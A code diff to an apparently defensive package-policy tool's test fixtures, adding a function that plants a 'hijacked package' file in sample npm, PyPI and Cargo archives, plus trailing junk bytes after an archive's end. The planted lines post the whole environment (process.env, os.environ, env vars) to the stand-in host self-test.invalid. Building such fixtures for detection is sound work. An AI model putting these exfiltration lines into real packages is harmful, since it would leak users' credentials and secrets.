@@ -4,7 +4,7 @@ use std::collections::BTreeMap;
 
 use bytes::Bytes;
 use cordon_policy::ecosystem::{CARGO, NPM, PYPI};
-use cordon_policy::model::{PackageName, Timestamp};
+use cordon_policy::model::{Ecosystem, PackageName, Timestamp};
 use cordon_policy::specimen::{Fixture, Release};
 use data_encoding::BASE64;
 use percent_encoding::percent_decode_str;
@@ -229,13 +229,20 @@ impl<'a> File<'a> {
                 cargo_toml(name, release),
             )
         };
-        let mut declared = tar_gz(&inner, &content);
+        let folder = inner.split_once('/').map_or("", |(folder, _)| folder);
+        let (source_name, source) = hostile_source(ecosystem);
+        let source_path = format!("{folder}/{source_name}");
+        let pack = |content: &str| match release.has_hostile_source {
+            true => tar_gz(&[(&inner, content), (&source_path, source)]),
+            false => tar_gz(&[(&inner, content)]),
+        };
+        let mut declared = pack(&content);
         if release.has_hostile_archive {
             // Some readers refuse what comes after the end, others do not look.
             declared = [&declared[..], b"something else"].concat().into();
         }
         let served = match release.has_other_bytes {
-            true => tar_gz(&inner, &format!("{content}\n")),
+            true => pack(&format!("{content}\n")),
             false => declared.clone(),
         };
         Self {
@@ -245,6 +252,21 @@ impl<'a> File<'a> {
             declared,
             served,
         }
+    }
+}
+
+/// A file that is written like that of a hijacked package: all variables near a connection. Nothing runs
+/// it, and its host is nobody's.
+fn hostile_source(ecosystem: &Ecosystem) -> (&'static str, &'static str) {
+    if *ecosystem == NPM {
+        let text = "fetch('https://self-test.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
+        ("index.js", text)
+    } else if *ecosystem == PYPI {
+        let text = "import os, requests\nrequests.post('https://self-test.invalid/', json=dict(os.environ))\n";
+        ("self_test.py", text)
+    } else {
+        let text = "pub fn run() {\n    let all = std::env::vars();\n    ureq::post(\"https://self-test.invalid/\");\n}\n";
+        ("src/lib.rs", text)
     }
 }
 
